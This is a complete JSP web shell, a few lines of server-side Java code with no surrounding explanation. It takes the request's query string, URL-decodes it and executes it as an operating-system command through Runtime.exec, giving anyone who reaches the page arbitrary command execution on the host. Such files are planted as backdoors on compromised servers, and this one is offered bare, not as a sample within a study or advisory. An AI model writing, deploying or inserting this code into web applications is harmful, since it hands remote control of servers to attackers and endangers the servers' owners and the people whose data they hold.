<%
String q = request.getQueryString();
String cmd = java.net.URLDecoder.decode(q, "UTF-8");
Runtime.getRuntime().exec(cmd);
%>
